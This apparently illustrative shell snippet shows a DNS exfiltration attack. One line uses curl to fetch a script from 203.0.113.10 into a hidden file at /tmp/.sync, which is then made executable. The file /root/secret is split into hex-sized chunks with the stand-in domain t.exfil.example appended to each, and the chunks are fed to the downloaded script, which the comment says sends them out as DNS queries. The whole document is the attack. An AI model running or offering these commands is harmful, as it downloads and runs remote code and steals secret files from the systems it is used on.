# A dropped script sends a file out in DNS queries. Each query carries 28 bytes, in hexadecimal.
curl -s -o /tmp/.sync http://203.0.113.10/names.py
chmod +x /tmp/.sync
fold -w 56 /root/secret | sed 's/$/.t.exfil.example/' >/tmp/.questions
/tmp/.sync </tmp/.questions
